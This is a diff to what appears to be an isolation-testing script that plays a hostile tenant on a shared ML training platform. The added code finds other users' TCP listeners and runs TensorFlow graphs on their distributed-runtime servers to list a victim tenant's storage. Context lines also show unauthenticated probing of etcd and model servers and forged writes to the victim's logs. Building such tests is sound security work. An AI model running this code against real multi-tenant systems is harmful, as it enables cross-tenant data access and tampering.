@@ -9,7 +9,11 @@ and prints what it got, as one line `HOSTILE-REPORT {json}`.
 - every loopback TCP port as etcd (its JSON gateway) and as a model server
   serving the victim's model (GetModelStatus / GetModelMetadata without a
   token), every Unix socket the kernel lists as such a model server too;
-- writes into the victim tenant's job (logs, metrics, work) and storage.
+- writes into the victim tenant's job (logs, metrics, work) and storage;
+- every TCP port another (non-root) user listens on as a server of
+  TensorFlow's distributed runtime (a distributed job's cluster port): it
+  lists the cluster's devices and runs a graph on one that lists the victim
+  tenant's storage.
 
 Runs as any trainer does; uses grpc from the platform's packages if present.
 """
@@ -44,6 +48,38 @@ def listening_tcp_ports() -> list[int]:
             if len(fields) > 3 and fields[3] == "0A":  # LISTEN
                 ports.add(int(fields[1].rsplit(":", 1)[1], 16))
     return sorted(ports)
+
+
+def others_listeners() -> dict[int, int]:
+    """port -> uid of every TCP listener of another user than this one and root."""
+    out = {}
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            lines = open(table).read().splitlines()[1:]
+        except OSError:
+            continue
+        for line in lines:
+            fields = line.split()
+            if len(fields) > 7 and fields[3] == "0A" and int(fields[7]) not in (0, os.getuid()):
+                out[int(fields[1].rsplit(":", 1)[1], 16)] = int(fields[7])
+    return out
+
+
+def tensorflow_lists(port: int, pattern: str) -> str:
+    """What a TensorFlow server on `port` answers to a graph that lists `pattern`
+    on one of its own devices: "READ <n> files", or "refused <why>"."""
+    import tensorflow as tf
+
+    tf.compat.v1.disable_eager_execution()
+    config = tf.compat.v1.ConfigProto(operation_timeout_in_ms=4000)
+    try:
+        with tf.Graph().as_default(), tf.compat.v1.Session(f"grpc://127.0.0.1:{port}", config=config) as session:
+            remote = [d.name for d in session.list_devices() if "/job:" in d.name and "CPU" in d.name]
+            with tf.device(remote[0]):
+                files = tf.io.matching_files(pattern)
+            return f"READ {len(session.run(files))} files"
+    except Exception as err:  # noqa: BLE001 - whatever stopped it
+        return f"refused {type(err).__name__}"
 
 
 def unix_sockets() -> list[str]:
@@ -116,7 +152,7 @@ def main(argv=None) -> int:
     data_dir, victim, victim_job, victim_model = argv[0], argv[1], argv[2], argv[3]
     me = os.getuid()
     found: dict = {"uid": me, "listed": [], "read": [], "secrets": {}, "environ": [], "etcd": {},
-                   "replicas": {}, "wrote": []}
+                   "replicas": {}, "wrote": [], "tensorflow": {}}
 
     for root, dirs, files in os.walk(data_dir):
         found["listed"].append(root)
@@ -152,6 +188,10 @@ def main(argv=None) -> int:
             found["replicas"][f"unix:{path}"] = got
         if path.endswith("etcd:2379"):
             found["etcd"][path] = "socket listed (connect attempted through gRPC above)"
+
+    victim_storage = os.path.join(data_dir, "storage", victim, "*")
+    for port in sorted(others_listeners()):
+        found["tensorflow"][str(port)] = tensorflow_lists(port, victim_storage)
 
     forged = '{"step": 999, "loss": -1.0, "forged": true}\n'
     targets = [os.path.join(data_dir, "jobs", victim, victim_job, "logs", "job.log"),
